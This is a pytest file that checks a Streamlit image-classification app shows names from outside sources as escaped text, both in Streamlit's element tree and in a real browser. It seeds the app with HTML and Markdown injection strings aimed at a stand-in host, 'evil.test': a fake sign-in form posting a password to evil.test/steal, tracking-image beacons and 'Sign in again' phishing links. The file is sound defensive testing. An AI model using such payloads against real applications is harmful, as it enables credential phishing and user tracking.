"""Names that come from outside (image file, class, dataset, group, preset and user names, a run's
name, notes, device, error and weights, an approval's note) are shown as text on every page: never
as HTML, never as Markdown (st.table's cells included), never as plotly's HTML. Checked in
Streamlit's element tree (AppTest) and once in a real browser. Also: no `unsafe_allow_html` and no
st.table anywhere, no error details for unexpected exceptions, and the checkpoint download for
editors only.

The data are hostile records made with core directly (a zip ingest, a preset, three runs without
training: one queued, one failed, one succeeded with misclassified images, a stand-in checkpoint
file and two approvals, the older one replaced).
"""

from __future__ import annotations

import csv
import io
import os
import re
import zipfile
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from sqlalchemy import select
from streamlit import dataframe_util
from streamlit.testing.v1 import AppTest

from core.access import accounts
from core.access.accounts import EDITOR, LOCAL_USER, VIEWER
from core.config import Settings, load_settings
from core.data import uploads
from core.errors import UserError
from core.evaluation import metrics
from core.inference import approval
from core.jobs import runs
from core.store.db import AugmentationPreset, Dataset, EpochMetric, ModelApproval, Prediction, RunStatus, utcnow
from core.store.engine import make_sessionmaker
from core.store.runs import model_path
from core.training import presets
from core.training.run_config import RunConfig
from core.transforms.augment import AugmentParams
from pages._common import md_text
from tests.server import free_port, start_app, stop_app, wait_healthy
from tests.synthetic import synthetic_image

ROOT = Path(__file__).resolve().parents[1]
APP = str(ROOT / "streamlit_app.py")
CHROMIUM = Path("/usr/bin/chromium")
HOST = "evil.test"
# A zip entry cannot hold "/" in a name, so the HTML ones spell it &#47; (a browser decodes it).
FORM_FILE = '<form action="&#47;&#47;evil.test&#47;steal"><input name=pw type=password><button>Sign in again 001.png'
IMG_FILE = '<img src="&#47;&#47;evil.test&#47;i.png"> 002.png'
DATASET = "![x](http://evil.test/beacon.png) [Session expired: sign in](http://evil.test/phish)"
CLASSES = [
    '<img src="&#47;&#47;evil.test&#47;c.png">CLL',
    '<a href="https:evil.test">[FL: sign in](https:evil.test) :red[FL] $x^2$ www.evil.test',
]
GROUPS = ['<img src="&#47;&#47;evil.test&#47;g.png">g1', "[g2](https:evil.test)", "g3", "g4"]
PRESET = '[Preset: sign in](https:evil.test) <img src="&#47;&#47;evil.test&#47;p.png">'
USER = '<img src="&#47;&#47;evil.test&#47;u.png">[ana](https:evil.test)@evil.test'
WEIGHTS = "[weights](http://evil.test/w) :streamlit: -> :material_home: .pt"
ERROR = f"Image {FORM_FILE} could not be read: ![e](http://evil.test/e.png)"
# What an editor types (a run's name and notes, an approval's note) and what the API takes as free
# text (a run's device): tracking images, links that ask to sign in again, HTML.
RUN_NAME = "![r](http://evil.test/run.png) [Sign in again](http://evil.test/login) <b>run</b>"
NOTES = '<img src="&#47;&#47;evil.test&#47;n.png"> [Session expired: sign in](http://evil.test/n) ![n](http:evil.test)'
APPROVAL_NOTE = '![a](http://evil.test/a.png) <a href="http:&#47;&#47;evil.test">[Sign in again](http:evil.test)</a>'
DEVICE = "cuda:0 ![d](http://evil.test/device.png) [Sign in again](http://evil.test/d) <i>gpu</i>"
FILES = [FORM_FILE, IMG_FILE, "003.png", "004.png"]
NAMES = [
    FORM_FILE,
    IMG_FILE,
    DATASET,
    *CLASSES,
    GROUPS[0],
    GROUPS[1],
    PRESET,
    USER,
    WEIGHTS,
    ERROR,
    RUN_NAME,
    NOTES,
    APPROVAL_NOTE,
    DEVICE,
]
PASSWORD = "correct horse battery"
TINY = dict(
    image_size=32,
    epochs=1,
    per_class=4,
    batch_size=4,
    lr=1e-3,
    weights="none",
    device="cpu",
    split="holdout",
    grouped=False,
)
PAGES = [
    "pages/home.py",
    "pages/dataset.py",
    "pages/augmentation.py",
    "pages/train.py",
    "pages/runs.py",
    "pages/predict.py",
]
# What Streamlit draws as plain text (measured in chromium, Streamlit 1.67): JSON, code, st.text and
# tables whole, and of select boxes and multiselects all but the label and help (their options are
# text). plotly is checked on its own. Ids and addresses are never drawn.
PLAIN_ELEMENTS = {"Json", "Code", "Text", "Dataframe", "PlotlyChart"}
OPTIONS_AS_TEXT = {"Selectbox", "MultiSelect"}


def hostile_zip() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for k, label in enumerate(CLASSES):
            for i, name in enumerate(FILES):
                image = io.BytesIO()
                synthetic_image(["CLL", "FL"][k], i, (32, 32)).save(image, "PNG")
                zf.writestr(f"{label}/{name}", image.getvalue())
    return buf.getvalue()


def groups_csv() -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["file", "group"])
    writer.writerows([f"{label}/{name}", GROUPS[i]] for label in CLASSES for i, name in enumerate(FILES))
    return out.getvalue().encode()


def record_runs(Session, cfg: Settings) -> int:
    """A queued run, a failed one and a succeeded one whose hostile-named images are misclassified,
    with a hostile name, notes, device and approvals; the id of the succeeded one (the newest, so the
    Runs page opens on it)."""
    with Session.begin() as s:
        queued, failed, done = (
            runs.create_runs(s, cfg, RunConfig(dataset=DATASET, **TINY, seed=seed), user=LOCAL_USER)[0]
            for seed in (0, 1, 2)
        )
        queued.created_by = failed.created_by = done.created_by = USER
        failed.status, failed.error = RunStatus.failed, ERROR
        done.status, done.weights_used = RunStatus.succeeded, WEIGHTS
        done.started_at = done.finished_at = utcnow()
        done.name, done.notes = RUN_NAME, NOTES
        # The device as asked for (written directly: the API may check it now) and as a worker reports it.
        done.config = {**done.config, "device": DEVICE}
        queued.device = done.device = DEVICE
        dataset = s.get(Dataset, done.dataset_id)
        classes = list(dataset.classes)
        for image in dataset.images:
            true = classes.index(image.label)
            wrong = image.original_name.split("/")[-1] in (FORM_FILE, IMG_FILE)
            predicted = 1 - true if wrong else true
            s.add(
                Prediction(
                    run_id=done.id,
                    image_id=image.id,
                    true_label=true,
                    predicted_label=predicted,
                    probabilities=[0.3, 0.7] if predicted else [0.7, 0.3],
                )
            )
        s.add(
            EpochMetric(
                run_id=done.id,
                epoch=1,
                train_loss=0.7,
                train_accuracy=0.5,
                val_loss=0.7,
                val_accuracy=0.5,
                seconds=1.0,
                images_per_second=8.0,
            )
        )
        done.summary = {"test_accuracy": 0.5, "best_epoch": 1, "n_train": 4, "n_val": 2, "n_test": 8}
        done_id = done.id
        # Approved twice by a hostile user with a hostile note: the first approval replaced by the second.
        approved = {
            "class_set": approval.class_set_key(classes),
            "run_id": done_id,
            "model_sha256": "0" * 64,
            "run_label": f"run {done_id} · {RUN_NAME}",
            "note": APPROVAL_NOTE,
            "approved_by": USER,
        }
        first, second = ModelApproval(**approved), ModelApproval(**approved)
        s.add_all([first, second])
        s.flush()
        first.withdrawn_by, first.withdrawn_at, first.replaced_by = USER, utcnow(), second.id
    model = model_path(cfg, done_id)
    model.parent.mkdir(parents=True, exist_ok=True)
    model.write_bytes(b"stand-in for a model file")
    return done_id


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> tuple[Settings, int, Path]:
    """APP_HOME with hostile names everywhere; the succeeded run's id; an accounts file (ana: editor,
    vic: viewer)."""
    tmp = tmp_path_factory.mktemp("hostile")
    cfg = load_settings({"APP_HOME": str(tmp / "home")})
    Session = make_sessionmaker(cfg.database_url)
    with Session.begin() as s:
        uploads.ingest_zip(s, cfg, hostile_zip(), "slides.zip", DATASET, groups_csv=groups_csv(), user=LOCAL_USER)
        s.scalar(select(Dataset)).created_by = USER
        presets.save_preset(s, PRESET, AugmentParams()).created_by = USER
    done_id = record_runs(Session, cfg)
    digest = accounts.hash_password(PASSWORD)
    accounts_file = tmp / "accounts.toml"
    accounts.write_accounts(
        accounts_file,
        accounts.Accounts(
            {"ana": accounts.Account("ana", digest, EDITOR), "vic": accounts.Account("vic", digest, VIEWER)}
        ),
    )
    return cfg, done_id, accounts_file


def open_app(monkeypatch, cfg: Settings, accounts_file: Path, user: str = "ana") -> AppTest:
    monkeypatch.setenv("APP_HOME", str(cfg.app_home))
    monkeypatch.delenv("DATABASE_URL", raising=False)
    monkeypatch.setenv("START_WORKER", "0")
    monkeypatch.setenv("AUTH_MODE", "password")
    monkeypatch.setenv("AUTH_FILE", str(accounts_file))
    at = AppTest.from_file(APP, default_timeout=60)
    at.session_state["auth_user"] = user
    at.run()
    assert not at.exception, at.exception
    return at


def strings(message, path: str = ""):
    """(field path, value) of every string in a protobuf message, nested messages included."""
    for field, value in message.ListFields():
        items = value if field.is_repeated else [value]
        for item in items:
            if field.type == field.TYPE_MESSAGE:
                yield from strings(item, f"{path}.{field.name}")
            elif field.type == field.TYPE_STRING:
                yield f"{path}.{field.name}", item


def markdown_strings(at: AppTest) -> list[tuple[str, str]]:
    """Every string of the page that Streamlit renders as Markdown, with where it is; and no
    element may allow HTML."""
    found = []
    for node in at._tree:
        proto = getattr(node, "proto", None)
        if proto is None or not hasattr(proto, "ListFields"):
            continue
        kind = type(proto).__name__
        for where, value in strings(proto):
            leaf = where.rsplit(".", 1)[-1]
            if (
                kind in PLAIN_ELEMENTS
                or (kind in OPTIONS_AS_TEXT and leaf not in ("label", "help"))
                or leaf.endswith("id")
                or leaf == "url"
                or leaf == "placeholder"
            ):  # an input's placeholder attribute: the browser draws it as text
                continue
            found.append((f"{kind}{where}", value))
        if kind == "Table":  # st.table renders Markdown in every cell, header and index
            frame = dataframe_util.convert_arrow_bytes_to_pandas_df(proto.arrow_data.data)
            found += [("Table.cell", str(v)) for v in [*frame.columns, *frame.index, *frame.to_numpy().ravel()]]
        for field, value in proto.ListFields():
            assert not (field.name in ("allow_html", "unsafe_allow_html") and value), (kind, field.name)
    return found


def assert_names_escaped(at: AppTest, expected: list[str]) -> None:
    """No Markdown string holds a name raw; each name in `expected` is on the page, escaped."""
    texts = markdown_strings(at)
    assert texts, "the page drew nothing"
    for name in NAMES:
        raw = [where for where, value in texts if name in value]
        assert not raw, f"{name!r} as Markdown in {raw}"
    for name in expected:
        assert any(md_text(name) in value for _, value in texts), f"{name!r} not shown"
    # plotly reads HTML in titles and labels: there, every "<" of a name is an entity.
    for chart in at.get("plotly_chart"):
        spec = chart.proto.spec
        assert not [n for n in NAMES if "<" in n and n.replace('"', '\\"') in spec], spec[:300]


EXPECTED = {
    "pages/home.py": [],  # names only in tables
    "pages/dataset.py": [DATASET, USER, *CLASSES, FORM_FILE, IMG_FILE],
    "pages/augmentation.py": [],  # names only in select boxes and the presets table
    "pages/train.py": [DATASET, DEVICE],  # the queue
    "pages/runs.py": [FORM_FILE, IMG_FILE, *CLASSES, WEIGHTS, RUN_NAME, NOTES, APPROVAL_NOTE, USER, DEVICE],
    "pages/predict.py": [DATASET, WEIGHTS, APPROVAL_NOTE, USER],
}


@pytest.mark.parametrize("page", PAGES)
def test_every_page_shows_outside_names_as_text(page, hostile, monkeypatch):
    cfg, _, accounts_file = hostile
    at = open_app(monkeypatch, cfg, accounts_file)
    at.switch_page(page).run()
    assert not at.exception, at.exception
    assert_names_escaped(at, EXPECTED[page])


def test_a_failed_runs_error_is_text(hostile, monkeypatch):
    cfg, done_id, accounts_file = hostile
    at = open_app(monkeypatch, cfg, accounts_file)
    at.switch_page("pages/runs.py").run()
    at.selectbox(key="runs_selected").set_value(done_id - 1).run()  # the failed run
    assert not at.exception and "This run failed" in at.error[0].value
    assert_names_escaped(at, [ERROR])


def test_the_report_of_an_upload_is_text(hostile, monkeypatch, settings):
    _, _, accounts_file = hostile
    at = open_app(monkeypatch, settings, accounts_file)  # an empty APP_HOME of its own
    at.switch_page("pages/dataset.py").run()
    at.file_uploader(key="ds_zip").set_value(("slides.zip", hostile_zip(), "application/zip"))
    at.text_input(key="ds_name").input(DATASET)
    at.run()
    at.button(key="ds_add").click().run()
    assert not at.exception and "8 image(s) added" in at.success[0].value
    assert_names_escaped(at, [DATASET, *CLASSES])


def test_preset_flash_messages_are_text(hostile, monkeypatch):
    cfg, _, accounts_file = hostile
    at = open_app(monkeypatch, cfg, accounts_file)
    at.switch_page("pages/augmentation.py").run()
    other = PRESET + " 2"
    at.text_input(key="aug_new_name").input(other).run()
    at.button[[b.label for b in at.button].index("Save preset")].click().run()
    assert not at.exception and md_text(other) in at.success[0].value
    at.selectbox(key="aug_delete_name").set_value(other).run()
    at.button[[b.label for b in at.button].index("Delete preset")].click().run()
    assert not at.exception and md_text(other) in at.success[0].value
    Session = make_sessionmaker(cfg.database_url)
    with Session() as s:
        assert list(s.scalars(select(AugmentationPreset.name))) == [PRESET]


def test_no_page_allows_html():
    files = [*sorted((ROOT / "pages").glob("*.py")), ROOT / "streamlit_app.py"]
    assert len(files) > 6
    for path in files:
        assert "unsafe_allow_html" not in path.read_text(), path


def test_no_page_draws_a_markdown_table():
    """st.table renders Markdown in its cells: tables of names go through pages._common.text_table
    (st.dataframe, whose cells are text)."""
    files = [*sorted((ROOT / "pages").glob("*.py")), ROOT / "streamlit_app.py"]
    for path in files:
        assert not re.search(r"\.table\(", path.read_text()), path


def test_the_approval_history_and_the_comparison_show_names_as_text(hostile, monkeypatch):
    """The approval history and the Compare tab's tables hold a run's name, an approver, a note and
    a device as text, whole; no element of the page renders them as Markdown (a viewer's page)."""
    cfg, done_id, accounts_file = hostile
    at = open_app(monkeypatch, cfg, accounts_file, "vic")
    at.switch_page("pages/runs.py").run()
    assert not at.exception, at.exception
    assert_names_escaped(at, [RUN_NAME, NOTES, APPROVAL_NOTE, USER, DEVICE])
    (history,) = [t.value for t in at.dataframe if "note" in t.value.columns]
    assert list(history["note"]) == [APPROVAL_NOTE, APPROVAL_NOTE]
    assert list(history["approved by"]) == [USER, USER] and list(history["model"])[0] == f"run {done_id} · {RUN_NAME}"

    at.session_state["runs_tab"] = "Compare runs"
    at.session_state["runs_compare"] = [done_id, done_id - 1]  # the succeeded run and the failed one
    at.run()
    assert not at.exception, at.exception
    assert_names_escaped(at, [])
    results, differences = [t.value for t in at.dataframe][-2:]
    assert list(results.loc["name"])[0] == RUN_NAME
    assert list(differences.loc["Device"]) == [DEVICE, "cpu"]


@pytest.mark.parametrize(
    "name",
    [
        *NAMES,
        "1. :streamlit: :material/home: :material_home: :smile: a -> b >= c",
        "- a@b.org  www.x.org\n# second line",
        "+ plus",
        "H~2~O ~~gone~~ &amp; | a | b |",
    ],
)
def test_escaped_names_keep_no_markup(name):
    escaped = md_text(name)
    special = r"[\\`*_\[\]()#!|~<>:$&]"
    assert re.fullmatch(rf"(?:\\{special}|\\[-+.]|(?!{special}).)*", escaped)  # each one escaped
    assert not re.match(r"(\d+[.)]|[-+*])( |$)", escaped)  # no list item
    shown = re.sub(r"\\(.)", r"\1", escaped)  # the text left once the escapes are resolved
    assert shown.replace("\u2060", "") == " ".join(name.split())
    # Text Streamlit's renderer rewrites after that: bare addresses, pictures, arrows.
    rewritten = r"https?://|www\.|[-.\w+]+@[-\w]+(\.[-\w]+)+|:[\w/+-]+:|(^|\s)(<->|->|<-|--|>=|<=|~=)(\s|$)"
    assert not re.search(rewritten, shown)


# ---------------------------------------------------------------------------------------------
# Error details and checkpoints


def test_unexpected_exceptions_show_no_details_but_user_errors_do(hostile, monkeypatch):
    cfg, _, accounts_file = hostile

    def broken(session, run):
        raise RuntimeError(f"cannot open {cfg.app_home}/secret.db")

    monkeypatch.setattr(metrics, "run_report", broken)
    at = open_app(monkeypatch, cfg, accounts_file)
    at.switch_page("pages/runs.py").run()
    (shown,) = at.exception
    assert str(cfg.app_home) not in shown.message and not shown.stack_trace and not shown.proto.type

    message = f"Run has no test predictions in {DATASET}."

    def refused(session, run):
        raise UserError(message)

    monkeypatch.setattr(metrics, "run_report", refused)
    at.run()
    assert not at.exception
    assert [e.value for e in at.error] == [md_text(message)]


@pytest.mark.parametrize("user, can_download", [("ana", True), ("vic", False)])
def test_only_editors_can_download_checkpoints(user, can_download, hostile, monkeypatch):
    cfg, done_id, accounts_file = hostile
    at = open_app(monkeypatch, cfg, accounts_file, user)
    at.switch_page("pages/runs.py").run()
    assert not at.exception
    keys = [b.proto.id for b in at.get("download_button")]
    assert any(f"runs_dl_csv_{done_id}" in k for k in keys)  # results are for everyone
    assert any(f"runs_dl_ckpt_{done_id}" in k for k in keys) == can_download
    assert any("model file needs the editor role" in c.value for c in at.caption) != can_download


# ---------------------------------------------------------------------------------------------
# In a real browser


# Forms and images that reach another host, links to HOST (plotly's SVG links too), password boxes.
DOM_PROBLEMS = """() => {
    const off = (url) => { try { return new URL(url, location.href).host !== location.host } catch { return true } };
    const bad = [];
    for (const f of document.querySelectorAll("form"))
        if (f.getAttribute("action") && off(f.action)) bad.push("form " + f.action);
    for (const i of document.querySelectorAll("img"))
        if (!/^(data|blob):/.test(i.src) && off(i.src)) bad.push("img " + i.src);
    for (const a of document.querySelectorAll("a")) {
        const href = a.getAttribute("href") || a.getAttribute("xlink:href") || "";
        if (href.includes("%s")) bad.push("a " + href);
    }
    for (const p of document.querySelectorAll("input[type=password]")) bad.push("password input");
    return bad;
}""".replace("%s", HOST)  # the JavaScript is full of braces an f-string would need doubled
# The page's text as a reader sees it (plotly's SVG text included), without the invisible word joiners.
SHOWN_TEXT = """() => (document.body.innerText + " " + [...document.querySelectorAll(".js-plotly-plot text")]
    .map(t => t.textContent).join(" ")).replaceAll("\\u2060", "")"""


@pytest.fixture(scope="module")
def server(hostile, tmp_path_factory):
    """The app as served (serve.py), without sign-in and without a worker (the queued run stays)."""
    cfg, done_id, _ = hostile
    port = free_port()
    env = {k: v for k, v in os.environ.items() if k not in ("DATABASE_URL", "IMPORT_ROOTS", "AUTH_MODE")}
    env.update(APP_HOME=str(cfg.app_home), START_WORKER="0", PYTHONUNBUFFERED="1")
    log_path = tmp_path_factory.mktemp("server") / "streamlit.log"
    with open(log_path, "wb") as log:
        process = start_app(port, env, log)
        url = f"http://127.0.0.1:{port}"
        try:
            wait_healthy(url, process, log=log_path)
            yield url, done_id
        finally:
            stop_app(process)


def test_a_browser_shows_hostile_names_as_text(server):
    from playwright.sync_api import TimeoutError as PlaywrightTimeout
    from playwright.sync_api import expect, sync_playwright

    url, done_id = server
    requested_off_host = []
    with sync_playwright() as p:
        browser = p.chromium.launch(
            executable_path=str(CHROMIUM),
            headless=True,
            args=["--no-sandbox", "--disable-gpu", "--disable-background-networking"],
        )
        page = browser.new_page(viewport={"width": 1440, "height": 2400})
        page.set_default_timeout(60_000)

        def gate(route) -> None:  # nothing leaves the machine; what tried to is recorded
            if urlsplit(route.request.url).hostname == "127.0.0.1":
                route.continue_()
            else:
                requested_off_host.append(route.request.url)
                route.abort()

        page.route("**/*", gate)
        for path, ready, names in [
            (f"/runs?run={done_id}", "Misclassified test images", [FORM_FILE, IMG_FILE, *CLASSES]),
            ("/train", "Queue", [DATASET]),
            ("/predict", "Trained on", [DATASET, WEIGHTS]),
        ]:
            page.goto(url + path)
            expect(page.get_by_text(ready).first).to_be_visible(timeout=60_000)  # the first load imports torch
            page.wait_for_load_state("networkidle")
            expect(page.get_by_test_id("stStatusWidget")).to_have_count(0, timeout=30_000)
            try:  # Markdown's plugins load on demand: wait until the names are drawn, one way or another
                page.wait_for_function(
                    f"names => names.every(n => ({SHOWN_TEXT})().includes(n))", arg=names, timeout=10_000
                )
            except PlaywrightTimeout:
                pass
            assert page.evaluate(DOM_PROBLEMS) == [], path
            # What a reader sees: each name as typed, no markup and no escaping backslashes.
            text = page.evaluate(SHOWN_TEXT)
            assert [n for n in names if n not in text] == [], path
            assert "\\" not in text, path
        browser.close()
    assert requested_off_host == []
